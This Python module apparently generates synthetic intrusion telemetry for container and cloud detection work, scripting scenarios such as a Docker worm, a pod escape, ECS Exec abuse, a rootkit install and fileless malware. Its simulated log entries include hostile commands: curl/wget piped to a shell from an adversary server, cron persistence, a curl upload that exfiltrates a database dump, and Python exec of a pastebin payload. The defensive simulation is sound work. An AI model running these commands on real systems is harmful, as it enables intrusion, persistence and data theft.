"""Attacks that begin in a container, or end in one."""

from __future__ import annotations

from tracehound.intrusions.estate.boxes import Box, Workload
from tracehound.intrusions.internet import Address
from tracehound.intrusions.processes import Process, Program
from tracehound.intrusions.scene import Plot, Scene
from tracehound.intrusions.stories import moves
from tracehound.intrusions.wire import calls, network, runtime, scans


def web_exploit(scene: Scene, begin: float) -> None:
    """A web application is exploited, and its task's role taken.

    Sources: ATT&CK T1190, T1059.004, T1552.005, T1537; Sysdig, "SCARLETEEL: operation leveraging
    Terraform, Kubernetes and AWS for data theft" (2023); reports on Log4Shell, Confluence and
    React2Shell.
    """
    plot = scene.open("web_exploit", "exploited application", begin)
    dice, organization = plot.dice, plot.organization
    if organization.workloads and dice.happens(0.4):
        box = organization.workload(dice).box(dice, begin)
    else:
        box = organization.service(dice).box(dice, begin)
    served = box.application
    child = moves.shell(plot, box, served)
    if dice.happens(0.3):
        domain = f"{dice.word()}.{plot.adversary.domain}"
        plot.entry(runtime.name_query("Backdoor:Runtime/C&CActivity.B!DNS", box, served, domain))
        plot.wait()
    else:
        words = {"what": served.program.name}
        plot.entry(runtime.seen("Execution:Runtime/SuspiciousShellCreated", box, child, words=words))
    if dice.happens(0.7):
        plot.wait()
        plot.step(runtime.reverse_shell(box, child, plot.adversary.server, dice.choice((443, 4444, 9001))))
    for _ in range(dice.randrange(3)):
        plot.wait()
        moves.look_around(plot, box, child)
    if dice.happens(0.7):
        plot.wait()
        tool = (
            plot.adversary.public_tool(dice.choice(("linpeas.sh", "deepce.sh", "chisel")))
            if dice.happens(0.4)
            else plot.adversary.own_tool()
        )
        process, _ = moves.drop(plot, box, child, tool)
        plot.wait()
        moves.call_home(plot, box, process)
        if box.host and dice.happens(0.5):
            plot.wait(30, 900)
            moves.node_calls_home(plot, box.host)
    if dice.happens(0.75):
        plot.wait()
        moves.ask_for_keys(plot, box, child)
        _spend(plot, box)


def _spend(plot: Plot, box: Box) -> None:
    keys, remote = moves.keys_of(plot, box), plot.adversary.address
    plot.wait()
    moves.use_outside(plot, box, keys, remote, plot.adversary.agent)
    if plot.dice.happens(0.7):
        moves.take_objects(plot, keys, remote, plot.adversary.agent, plot.dice.happens(0.6))


def docker_worm(scene: Scene, begin: float) -> None:
    """A worm finds open Docker daemons, starts containers that mount the host, mines, and goes on by SSH.

    Sources: ATT&CK G0139 (TeamTNT), S0599 (Kinsing), T1610, T1611, T1496, T1021.004; Aqua, "Threat alert:
    Kinsing malware attacks targeting container environments" (2020); Kaspersky on the Dero miner (2025).
    """
    plot = scene.open("docker_worm", "worm", begin)
    dice, adversary = plot.dice, plot.adversary
    place = scene.organization.place(dice)
    worm, miner = (
        adversary.own_tool("kinsing" if dice.happens(0.2) else None),
        adversary.public_tool(
            "xmrig", renamed=dice.choice(("kdevtmpfsi", "xmrig", "sysupdate", adversary.word))
        ),
    )
    before = None
    for number in range(dice.number(1, 9)):
        host = scene.organization.host(dice, place)
        if before is not None:
            plot.wait()
            found = network.flow(
                "UnauthorizedAccess:EC2/SSHBruteForce",
                before,
                Address(host.private_ip),
                dice.randrange(30_000, 60_000),
                22,
            )
            plot.step(found, dice.number(3, 400))
        plot.wait()
        docker = host.service("dockerd")
        if number == 0:
            container = moves.run(plot, host, host.tool("runc"), docker)
            sight = runtime.seen(
                "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
                host,
                container,
                mountSource="/",
                mountTarget=dice.choice(("/mnt", "/host", "/tmp/mnt")),
                fileSystemType="ext4",
                flags=["MS_BIND"],
            )
            plot.entry(sight)
            above = moves.run(plot, host, host.tool("chroot"), container)
        else:
            above = moves.run(plot, host, host.tool("bash"), host.service("sshd"))
        script = moves.shell(plot, host, above)
        plot.wait()
        line = f"curl -fsSL http://{adversary.server.ip}/{dice.letters(3, 'abcdhint')}.sh | bash"
        plot.step(runtime.command("Execution", host, script, line, 7.0))
        if dice.happens(0.5):
            plot.wait()
            plot.step(
                runtime.command(
                    "Persistence",
                    host,
                    moves.run(plot, host, host.tool("crontab"), script),
                    f"* * * * * curl http://{adversary.server.ip}/c | sh",
                )
            )
        plot.wait()
        spreading = moves.run(plot, host, worm, script)
        if dice.happens(0.6):
            plot.step(
                runtime.known_malware(
                    host, spreading, "Linux.Kinsing" if dice.happens(0.3) else "Linux.Worm.Gen"
                )
            )
            plot.wait()
        moves.mine(plot, host, moves.run(plot, host, miner, spreading))
        if dice.happens(0.25):
            plot.wait(3600, 30_000)
            plot.step(
                scans.malware(
                    "Execution:EC2/MaliciousFile",
                    host,
                    [worm, miner],
                    "Trojan.Linux.Miner",
                    plot.at,
                    plot.members[-1].identity,
                )
            )
        before = host


def pod_escape(scene: Scene, begin: float) -> None:
    """A pod is left by way of its host, which then scans the network: seen as a process and in flow logs.

    Sources: ATT&CK T1611, T1046, T1552.005; CVE-2022-0492 (release_agent), CVE-2024-21626 (runC);
    amazon-guardduty-tester, whose scripts do the same on purpose.
    """
    plot = scene.open("pod_escape", "escape", begin)
    dice, adversary = plot.dice, plot.adversary
    workload = scene.organization.workload(dice) if scene.organization.workloads else None
    box = (
        workload.box(dice, begin)
        if workload
        else scene.organization.service(dice, on_fargate=False).box(dice, begin)
    )
    node = box.host
    assert node is not None
    child = moves.shell(plot, box, box.application)
    plot.entry(runtime.seen("Execution:Runtime/SuspiciousShellCreated", box, child))
    plot.wait()
    if dice.happens(0.5):
        moves.look_around(plot, box, child)
        plot.wait()
    _break_out(plot, box, child)
    plot.wait(2, 600)
    outside = moves.shell(plot, node, node.service("kubelet" if workload else "dockerd"), "root")
    scanner = (
        adversary.public_tool(dice.choice(("nmap", "masscan", "pnscan")))
        if dice.happens(0.6)
        else node.tool("nmap")
    )
    process = moves.run(plot, node, scanner, outside)
    plot.step(runtime.tool(node, process, "Network scanner", 5.0))
    plot.wait(20, 3000)
    near = Address(f"{node.place.network}.{dice.randrange(256)}.{dice.randrange(4, 250)}")
    plot.step(
        network.flow(
            "Recon:EC2/Portscan", node, near, dice.randrange(32_768, 60_000), dice.choice((22, 80, 445, 6379))
        ),
        dice.number(1, 400),
    )
    if dice.happens(0.4):
        plot.wait(20, 900)
        plot.step(
            network.flow(
                "Impact:EC2/PortSweep",
                node,
                near,
                dice.randrange(32_768, 60_000),
                dice.choice((22, 2375, 10250)),
            ),
            dice.number(1, 900),
        )
    if dice.happens(0.6):
        plot.wait()
        moves.ask_for_keys(plot, node, outside)
        keys = moves.keys_of(plot, node)
        plot.wait()
        moves.use_outside(plot, node, keys, adversary.address, adversary.agent)
    if dice.happens(0.5):
        plot.wait()
        moves.mine(plot, node, moves.run(plot, node, adversary.own_tool(), outside))
    if workload and dice.happens(0.4):
        plot.sequenced(
            "AttackSequence:EKS/CompromisedCluster",
            workload.cluster.name,
            workload.place.arn("eks", f"cluster/{workload.cluster.name}"),
        )


def _break_out(plot: Plot, box: Box, parent: Process) -> None:
    ways = plot.dice.some(("agent", "runc", "socket", "mount"), plot.dice.choice((1, 1, 2)))
    for way in ways:
        process = moves.shell(plot, box, parent)
        if way == "agent":
            sight = runtime.seen(
                "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
                box,
                process,
                releaseAgentPath="/tmp/cgrp/release_agent",
            )
        elif way == "runc":
            sight = runtime.seen(
                "PrivilegeEscalation:Runtime/RuncContainerEscape",
                box,
                process,
                runcBinaryPath="/usr/bin/runc",
            )
        elif way == "socket":
            process = moves.run(plot, box, box.tool("curl"), parent)
            sight = runtime.seen(
                "PrivilegeEscalation:Runtime/DockerSocketAccessed",
                box,
                process,
                socketPath="/var/run/docker.sock",
            )
        else:
            process = moves.run(plot, box, box.tool("mount"), parent)
            sight = runtime.seen(
                "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
                box,
                process,
                mountSource="/dev/nvme0n1p1",
                mountTarget=f"/mnt/{plot.adversary.word}",
                fileSystemType="xfs",
                flags=["MS_BIND"],
            )
        plot.step(sight)
        plot.wait(1, 200)


def ecs_exec(scene: Scene, begin: float) -> None:
    """Somebody with a stolen session opens shells in tasks by ECS Exec, installs tools and takes data.

    Sources: ATT&CK T1651, T1609, T1072; the finding of 2023-12-04 published by classmethod; Hacking the
    Cloud, "ECS Exec"; Sysdig on abuse of SSM.
    """
    plot = scene.open("ecs_exec", "remote command", begin)
    dice, adversary = plot.dice, plot.adversary
    service = scene.organization.service(dice, on_fargate=dice.happens(0.8))
    person = scene.organization.person(dice, service.place)
    keys = person.session(dice)
    kind = "Execution" if dice.happens(0.0) else "Discovery"
    plot.entry(
        calls.call(
            f"{kind}:IAMUser/AnomalousBehavior", keys, adversary.server, "ListTasks", "ecs", adversary.agent
        ),
        dice.number(1, 9),
    )
    for _ in range(dice.choice((1, 1, 2, 3))):
        plot.wait()
        box = service.start(dice, plot.at - dice.spread(1, 90) * 3600)
        task = box.around["ecsClusterDetails"]["taskDetails"]["arn"]
        affected = {"AWS::ECS::Task": task}
        plot.step(
            calls.call(
                "PrivilegeEscalation:IAMUser/AnomalousBehavior",
                keys,
                adversary.server,
                "ExecuteCommand",
                "ecs",
                adversary.agent,
                affected,
            )
        )
        plot.wait(2, 60)
        _session(plot, box)


def _session(plot: Plot, box: Box) -> None:
    dice, base = plot.dice, "/managed-agents/execute-command/"
    agent = box.table.start(Program(base + "amazon-ssm-agent", "ssm-agent-3.3"), box.started + 4)
    worker = box.table.start(Program(base + "ssm-agent-worker", "ssm-worker-3.3"), box.started + 6, agent)
    session = moves.run(plot, box, Program(base + "ssm-session-worker", "ssm-session-3.3"), worker)
    child = moves.shell(plot, box, session)
    caller, files = box.image.installers
    installer = moves.run(plot, box, caller, child)
    plot.wait(3, 60)
    writer = moves.run(plot, box, files, installer)
    for name in dice.some(("nmap", "tcpdump", "socat", "psql", "redis-cli", "mysql"), dice.choice((1, 2, 3))):
        plot.wait()
        process = moves.run(plot, box, box.tool(name), child)
        plot.step(runtime.new_binary(box, process, writer, plot.at - 2))
        if name in {"nmap", "tcpdump", "socat"} and dice.happens(0.6):
            plot.wait(1, 30)
            plot.step(runtime.tool(box, process, "Network", 2.0))
    if dice.happens(0.6):
        plot.wait()
        process = moves.run(plot, box, box.tool("curl"), child)
        line = f"curl -F file=@/tmp/{dice.word()}.sql.gz https://{plot.adversary.domain}/u"
        plot.loss(runtime.command("Execution", box, process, line, 5.0))
    if dice.happens(0.5):
        plot.wait()
        moves.call_home(plot, box, moves.run(plot, box, box.tool("curl"), child))


def system_install(scene: Scene, begin: float) -> None:
    """Malware that settles where the system's own files are: `/usr/lib`, `/usr/sbin`, `/opt`, with a preload.

    Sources: ATT&CK T1574.006, T1543.002, T1036.005; Intezer and BlackBerry on Symbiote and OrBit (2022);
    Aqua Nautilus on perfctl (2024).
    """
    plot = scene.open("system_install", "rootkit", begin)
    dice, adversary = plot.dice, plot.adversary
    is_box = dice.happens(0.5)
    machine = scene.organization.service(dice).box(dice, begin) if is_box else scene.organization.host(dice)
    above = (
        machine.application
        if isinstance(machine, Box)
        else machine.service(dice.choice(("nginx", "httpd", "rocketmqd")))
    )
    child = moves.shell(plot, machine, above)
    plot.entry(
        runtime.command(
            "Execution",
            machine,
            child,
            f"(wget -qO- {adversary.server.ip}/i||curl -s {adversary.server.ip}/i)|sh",
            7.0,
        )
    )
    daemon = adversary.own_tool(in_system=True)
    writer = moves.fetch(plot, machine, child)
    plot.wait()
    process = moves.run(plot, machine, daemon, child, "root")
    if is_box:
        plot.step(runtime.new_binary(machine, process, writer, plot.at - 1))
    else:
        plot.step(runtime.known_malware(machine, process, "Linux.Rootkit.Gen"))
    library = f"/usr/lib/lib{adversary.word}.so"
    for step in dice.some(("preload", "unit", "library", "root", "hide"), dice.choice((2, 3, 4))):
        plot.wait()
        if step == "preload":
            sight = runtime.seen(
                "DefenseEvasion:Runtime/SensitiveFileModified",
                machine,
                process,
                words={"what": "/etc/ld.so.preload"},
                filePath="/etc/ld.so.preload",
                fileOperation="WRITE",
            )
        elif step == "unit":
            path = f"/etc/systemd/system/{daemon.name}.service"
            sight = runtime.seen(
                "Persistence:Runtime/SensitiveFileModified",
                machine,
                process,
                words={"what": path},
                filePath=path,
                fileOperation="CREATE",
            )
        elif step == "library":
            victim = moves.run(plot, machine, machine.tool(dice.choice(("ls", "sshd", "ps"))), above)
            sight = runtime.new_library(machine, victim, library, process, plot.at - 5)
        elif step == "root":
            sight = runtime.seen("PrivilegeEscalation:Runtime/ElevationToRoot", machine, process)
        else:
            sight = runtime.command(
                "DefenseEvasion",
                machine,
                moves.run(plot, machine, machine.tool("chattr"), process),
                f"chattr +i {daemon.path}",
            )
        plot.step(sight)
    plot.wait()
    moves.call_home(plot, machine, process)
    if dice.happens(0.6):
        plot.wait()
        moves.mine(plot, machine, process, with_miner=dice.happens(0.5))
    if not is_box and dice.happens(0.3):
        plot.wait(7200, 90_000)
        plot.step(scans.malware("Execution:EC2/MaliciousFile", machine, [daemon], "Rootkit.Linux", plot.at))


def in_memory(scene: Scene, begin: float) -> None:
    """A miner or a beacon that never touches a disk: loaded into memory from an open notebook or Redis.

    Sources: ATT&CK T1620, T1055.009, T1496; Wiz, "PyLoose: Python-based fileless malware targets cloud
    workloads" (2023); Aqua, "Qubitstrike" and "HeadCrab".
    """
    plot = scene.open("in_memory", "fileless", begin)
    dice, adversary = plot.dice, plot.adversary
    box: Box = scene.organization.service(dice).box(dice, begin)
    if scene.organization.workloads and dice.happens(0.5):
        workload: Workload = scene.organization.workload(dice)
        box = workload.box(dice, begin)
    python = moves.run(plot, box, box.tool("python3"), box.application)
    paste = f"https://{dice.choice(('paste.c-net.org', 'pastebin.com'))}/raw/{dice.hexadecimal(8)}"
    line = f"python3 -c exec(urlopen('{paste}').read())"
    plot.entry(runtime.command("Execution", box, python, line, 5.0))
    plot.wait(1, 60)
    ghost = Program(
        f"/memfd:{dice.choice(('', adversary.word, 'kthread'))} (deleted)", adversary.own_tool("core").content
    )
    process = moves.run(plot, box, ghost, python)
    plot.step(runtime.seen("DefenseEvasion:Runtime/FilelessExecution", box, process))
    if dice.happens(0.4):
        plot.wait()
        plot.step(
            runtime.seen(
                "DefenseEvasion:Runtime/ProcessInjection.Proc",
                box,
                process,
                words={"what": box.application.program.name},
                targetProcess=box.application.wire(runtime.DEEPEST),
            )
        )
    plot.wait()
    if dice.happens(0.5):
        moves.mine(plot, box, process, with_miner=False)
    else:
        moves.call_home(plot, box, process)
        plot.wait()
        moves.look_around(plot, box, process)
        plot.wait()
        plot.loss(runtime.name_query("Trojan:Runtime/DropPoint!DNS", box, process, f"up.{adversary.domain}"))
